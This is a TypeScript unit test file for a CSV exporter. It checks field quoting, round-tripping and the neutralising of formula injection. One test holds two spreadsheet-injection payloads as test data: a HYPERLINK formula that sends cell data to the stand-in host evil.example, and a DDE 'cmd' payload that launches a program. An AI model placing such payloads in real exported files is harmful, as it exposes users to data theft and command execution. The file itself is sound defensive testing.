// needs: pure
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvText } from '../../shared/exporters/csvText.ts';
import { readCsv } from '../helpers/readCsv.ts';

test('a table has a heading line, and an unknown value is an empty field', () => {
  const text = csvText([
    { participant: 'Ada, "the" tester', share: 0.5 },
    { participant: 'reader-7b', share: null },
  ]);
  assert.equal(text, 'participant,share\r\n"Ada, ""the"" tester",0.5\r\nreader-7b,\r\n');
  assert.equal(csvText([]), '');
});

test('any field is read back; a field that a spreadsheet would compute is marked as text', () => {
  const beginning = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n=');
  const text = fc.tuple(beginning, fc.string({ unit: 'binary' })).map((parts) => parts.join(''));
  fc.assert(
    fc.property(fc.array(fc.record({ a: text, b: fc.string() }), { minLength: 1 }), (table) => {
      const [head, ...lines] = readCsv(csvText(table));
      assert.deepEqual(head, ['a', 'b']);
      assert.deepEqual(
        lines.map((line) => line.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n])/, ''))),
        table.map(({ a, b }) => [a, b].map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n])/, ''))),
      );
      for (const cell of lines.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
    }),
  );
});

test('a name that looks like a formula is marked as text; a negative number is not', () => {
  const rows = [
    { name: '=HYPERLINK("http://evil.example/?"&A2)', change: -0.5 },
    { name: "-2+3+cmd|' /C calc'!A0", change: 1e-7 },
  ];
  assert.equal(
    csvText(rows),
    'name,change\r\n"\'=HYPERLINK(""http://evil.example/?""&A2)",-0.5\r\n\'-2+3+cmd|\' /C calc\'!A0,1e-7\r\n',
  );
});
